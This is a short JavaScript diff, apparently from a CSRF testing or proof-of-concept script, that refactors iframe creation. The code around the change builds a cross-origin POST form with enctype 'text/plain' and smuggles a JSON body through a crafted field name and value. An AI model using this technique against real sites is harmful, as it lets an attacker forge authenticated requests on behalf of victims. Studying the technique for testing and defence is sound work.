@@ -44,8 +44,7 @@ async function read() {
   } catch (error) { return "blocked"; }
 }
 async function form() {
-  const frame = document.body.appendChild(document.createElement("iframe"));
-  frame.name = "answer";
+  const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), {name: "answer"}));
   const fields = {method: "POST", action: TARGET, enctype: "text/plain", target: "answer"};
   const sent = document.body.appendChild(Object.assign(document.createElement("form"), fields));
   const field = {name: body.slice(0, -1) + ',"x":"', value: '"}'};
